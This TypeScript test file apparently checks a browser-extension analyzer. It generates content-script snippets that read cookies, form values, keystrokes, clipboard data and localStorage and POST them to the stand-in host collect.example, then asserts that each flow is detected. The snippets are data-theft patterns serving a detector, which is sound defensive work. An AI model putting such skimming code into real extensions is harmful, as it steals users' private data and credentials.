import { describe, expect, it } from 'vitest';
import { verdictOn } from '../../../test/matrix/extension/verdict.ts';
import { METHODS, PROPERTIES, type DomType } from './dom.ts';

const MANIFEST = JSON.stringify({
  manifest_version: 3,
  name: 'A',
  version: '1',
  host_permissions: ['<all_urls>'],
  content_scripts: [{ matches: ['<all_urls>'], js: ['c.js'] }],
});

/** A program in which `x` is a value of the type. */
const HOLDS: Readonly<Record<DomType, ((use: string) => string) | undefined>> = {
  window: (use) => `const x = window; ${use}`,
  document: (use) => `const x = window.document; ${use}`,
  element: (use) => `const x = document.querySelector('p'); ${use}`,
  elements: undefined,
  form: (use) => `const x = document.forms[0]; ${use}`,
  forms: undefined,
  edited: (use) => `document.addEventListener('input', (e) => { const x = e.target; ${use} });`,
  made: (use) => `const x = document.createElement('iframe'); ${use}`,
  parsed: (use) => `const x = new DOMParser().parseFromString(document.body.innerHTML, 'text/html'); ${use}`,
  'own-frame': (use) => `const x = document.createElement('iframe').contentWindow; ${use}`,
  location: (use) => `const x = window.location; ${use}`,
  storage: (use) => `const x = localStorage; ${use}`,
  event: undefined,
  'key-event': (use) => `document.onkeydown = function (x) { ${use} };`,
  'input-event': (use) => `document.addEventListener('beforeinput', (x) => { ${use} });`,
  'form-data-event': (use) => `document.addEventListener('formdata', (x) => { ${use} });`,
  'storage-event': (use) => `window.addEventListener('storage', (x) => { ${use} });`,
  'submit-event': undefined,
  transfer: (use) => `document.addEventListener('paste', (e) => { const x = e.clipboardData; ${use} });`,
  selection: (use) => `const x = window.getSelection(); ${use}`,
  records: undefined,
  record: (use) => `new MutationObserver((all) => { for (const x of all) { ${use} } }).observe(document, {});`,
  walker: undefined,
  'xpath-result': (use) => `const x = document.evaluate('//p', document); ${use}`,
  range: (use) => `const x = document.createRange(); ${use}`,
  navigation: undefined,
  entries: undefined,
  entry: (use) => `const x = window.navigation.currentEntry; ${use}`,
  'hash-event': (use) => `window.addEventListener('hashchange', (x) => { ${use} });`,
  jquery: (use) => `const x = $('p'); ${use}`,
};

const KINDS_OF_ATTRIBUTES = new Set(['attribute', 'title']);

async function kindsOf(program: string): Promise<readonly string[]> {
  return (await verdictOn({ 'manifest.json': MANIFEST, 'c.js': program }, 'private', 'network')).flows;
}

describe('every line of the page model that gives data is reached', () => {
  for (const [type, holds] of Object.entries(HOLDS)) {
    const lines = [
      ...[...PROPERTIES[type as DomType]].map(([name, given]) => ({ read: `x.${name}`, given })),
      ...[...METHODS[type as DomType]].map(([name, given]) => ({
        read: /^(?:val|text|html|serialize\w*)$/.test(name) ? `x.${name}()` : `x.${name}('a')`,
        given,
      })),
    ].filter(({ given }) => 'data' in given && !KINDS_OF_ATTRIBUTES.has(given.data));
    if (lines.length === 0) continue;
    it(type, async () => {
      expect(holds).toBeDefined();
      for (const { read } of lines)
        expect(
          await kindsOf(
            (holds as (use: string) => string)(`fetch('https://collect.example/', { method: 'POST', body: ${read} });`),
          ),
          read,
        ).not.toEqual([]);
    });
  }
});

describe('every line that gives another object of the page is gone along', () => {
  const TEXT: Partial<Record<DomType, string>> = {
    element: '.innerText',
    elements: '[0].innerText',
    form: '.elements[0].value',
    forms: '[0].elements.a.value',
    edited: '.value',
    document: '.cookie',
    window: '.document.cookie',
    location: '.href',
    storage: '.getItem("a")',
    transfer: '.getData("text")',
    selection: '.toString()',
    records: '[0].target.innerText',
    record: '.target.innerText',
    walker: '.nextNode().textContent',
    'xpath-result': '.iterateNext().textContent',
    range: '.toString()',
    navigation: '.currentEntry.url',
    entries: '[0].url',
    entry: '.url',
    jquery: '.val()',
  };
  const MORE: Partial<Record<DomType, (use: string) => string>> = {
    navigation: (use) => `const x = window.navigation; ${use}`,
    entries: (use) => `const x = window.navigation.entries(); ${use}`,
    elements: (use) => `const x = document.querySelectorAll('p'); ${use}`,
    forms: (use) => `const x = document.forms; ${use}`,
    event: (use) => `document.addEventListener('click', (x) => { ${use} });`,
    'submit-event': (use) => `document.addEventListener('submit', (x) => { ${use} });`,
    records: (use) => `new MutationObserver((x) => { ${use} }).observe(document, {});`,
    walker: (use) => `const x = document.createTreeWalker(document.body); ${use}`,
  };
  for (const type of Object.keys(HOLDS) as DomType[]) {
    const holds = HOLDS[type] ?? MORE[type];
    const lines = [
      ...[...PROPERTIES[type]].map(([name, given]) => ({ read: /^\d/.test(name) ? `x[${name}]` : `x.${name}`, given })),
      ...[...METHODS[type]].map(([name, given]) => ({ read: `x.${name}('a')`, given })),
    ].flatMap(({ read, given }) => {
      const text = 'type' in given ? TEXT[given.type] : undefined;
      return text === undefined ? [] : [read + text];
    });
    if (lines.length === 0 || holds === undefined) continue;
    it(type, async () => {
      for (const read of lines)
        expect(
          await kindsOf(holds(`fetch('https://collect.example/', { method: 'POST', body: ${read} });`)),
          read,
        ).not.toEqual([]);
    });
  }
});
